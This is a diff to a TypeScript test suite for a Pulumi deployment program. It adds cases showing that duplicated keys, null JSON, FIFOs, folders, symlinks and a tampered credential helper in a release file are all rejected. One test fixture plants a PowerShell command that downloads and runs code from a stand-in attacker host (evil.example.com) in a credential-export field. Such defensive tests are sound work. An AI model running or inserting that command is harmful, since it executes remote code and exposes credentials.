@@ -1,4 +1,5 @@
 import * as assert from "assert";
+import { execFileSync } from "child_process";
 import * as fs from "fs";
 import * as os from "os";
 import * as path from "path";
@@ -316,6 +317,36 @@ const CASES: Case[] = [
     path: `Pulumi.prod.release.json: releases.developer.${PILOT_DEVELOPER}`,
     fix: "not the policy hash it is filed under",
   },
+  {
+    name: "a release file holding a ring twice: a reviewer reads the first, JSON.parse keeps the last (rings)",
+    edits: () => ({}),
+    release: () =>
+      PROD_RELEASE.replace(
+        '"rings": {\n',
+        '"rings": {\n    "pilot": { "releasedAt": "2020-01-01", "profiles": {} },\n',
+      ),
+    path: "Pulumi.prod.release.json: rings.pilot",
+    fix: "this key is written twice",
+  },
+  {
+    name: "a release file whose unhashed Windows document runs another credential helper (rings)",
+    edits: () => ({}),
+    release: () => {
+      const json = JSON.parse(PROD_RELEASE);
+      json.releases.developer[PILOT_DEVELOPER].windows.awsCredentialExport =
+        "powershell.exe -Command iex(iwr evil.example.com)";
+      return JSON.stringify(json);
+    },
+    path: `Pulumi.prod.release.json: releases.developer.${PILOT_DEVELOPER}.windows.awsCredentialExport`,
+    fix: "is not the posix document's Windows translation",
+  },
+  {
+    name: "a release file that is JSON null (rings)",
+    edits: () => ({}),
+    release: () => "null",
+    path: "Pulumi.prod.release.json: (root)",
+    fix: "restore the file from git",
+  },
 ];
 
 /** Runs the program with `release` as the stack's release file (a temp stacks folder), or the committed one. */
@@ -326,6 +357,20 @@ async function runWithRelease(c: Case) {
   process.env[STACKS_DIR_ENV] = dir;
   try {
     return await runProgram(variant("prod", c.edits()));
+  } finally {
+    delete process.env[STACKS_DIR_ENV];
+    fs.rmSync(dir, { recursive: true, force: true });
+  }
+}
+
+/** Runs the program with `place` making the stack's release file in a temp stacks folder; the file's path. */
+async function runWithPlacedRelease(place: (file: string) => void) {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "whole-program-release-"));
+  const file = path.join(dir, "Pulumi.prod.release.json");
+  place(file);
+  process.env[STACKS_DIR_ENV] = dir;
+  try {
+    return { file, run: await runProgram(variant("prod")) };
   } finally {
     delete process.env[STACKS_DIR_ENV];
     fs.rmSync(dir, { recursive: true, force: true });
@@ -379,6 +424,30 @@ describe("plan: invalid stacks through the whole program register nothing", func
         run.registered.map((r) => `${r.type}::${r.name}`),
         [],
       );
+    });
+  }
+
+  for (const [what, place, fix] of [
+    [
+      "a FIFO (reading it would hang pulumi up)",
+      (file: string) => execFileSync("mkfifo", [file]),
+      "is not a regular file",
+    ],
+    ["a folder", (file: string) => fs.mkdirSync(file), "is not a regular file"],
+    [
+      "a symbolic link to the committed file",
+      (file: string) => fs.symlinkSync(path.resolve(__dirname, "..", "..", "stacks", "Pulumi.prod.release.json"), file),
+      "is a symbolic link",
+    ],
+  ] as const) {
+    it(`a release file that is ${what}: ConfigError naming its path at once, zero resources`, async () => {
+      const { file, run } = await runWithPlacedRelease(place);
+      assert.ok(run.error instanceof ConfigError, `expected a ConfigError, got ${String(run.error)}`);
+      assert.deepStrictEqual(
+        run.error.problems.map((p) => [p.path, p.message.startsWith(fix)]),
+        [[file, true]],
+      );
+      assert.deepStrictEqual(run.registered, []);
     });
   }
 });
